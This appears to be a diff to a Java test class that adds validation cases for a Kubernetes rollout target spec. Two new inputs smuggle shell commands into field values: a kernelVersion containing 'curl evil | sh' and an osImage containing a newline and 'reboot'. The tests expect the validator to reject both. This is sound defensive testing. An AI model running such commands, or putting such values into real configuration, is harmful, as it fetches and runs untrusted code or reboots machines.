@@ -131,6 +131,12 @@ class RolloutFilesTest {
             "  target: {kubernetesVersion: \"1.34\"}\n" + wave,
             "6: spec.target.kubernetesVersion: must be a Kubernetes release such as v1.34.4"),
         new Case(
+            "  target: {kernelVersion: \"6.8.0; curl evil | sh\"}\n" + wave,
+            "6: spec.target.kernelVersion: must be a kernel release as nodes report it"),
+        new Case(
+            "  target: {osImage: \"Ubuntu\\n; reboot\"}\n" + wave,
+            "6: spec.target.osImage: must be an OS image as nodes report it"),
+        new Case(
             "  target: {kernel: x}\n" + wave,
             "6: spec.target.kernel: is not a field; expected one of kernelVersion,"
                 + " kubernetesVersion, osImage"),
